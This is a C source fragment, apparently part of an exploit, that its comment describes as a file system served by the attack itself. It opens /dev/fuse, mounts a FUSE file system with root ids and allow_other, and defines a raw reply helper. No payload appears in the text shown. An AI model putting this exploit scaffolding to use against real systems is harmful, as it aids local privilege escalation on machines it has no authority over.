/* A file system that the attack serves itself (fuse(4), linux/fuse.h). */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

static int fuse;

static const struct fuse_init_out fuse_init = {.major = 7, .minor = 31, .max_background = 12,
                                               .congestion_threshold = 9, .max_write = 4096, .time_gran = 1,
                                               .max_pages = 1};

/* Mounts it on `target`; says why it cannot. */
static int mount_fuse(const char *target) {
  char options[100];
  fuse = open("/dev/fuse", O_RDWR);
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
  int failed = mount("none", target, "fuse", 0, options);
  if (failed) printf("mount: %s\n", strerror(errno));
  return failed;
}

static void answer(unsigned long long unique, int error, const void *body, int length) {
  char reply[512];
  struct fuse_out_header h = {sizeof h + length, error, unique};
  memcpy(reply, &h, sizeof h);
  memcpy(reply + sizeof h, body, length);
  if (write(fuse, reply, h.len) < 0) perror("answer");
}
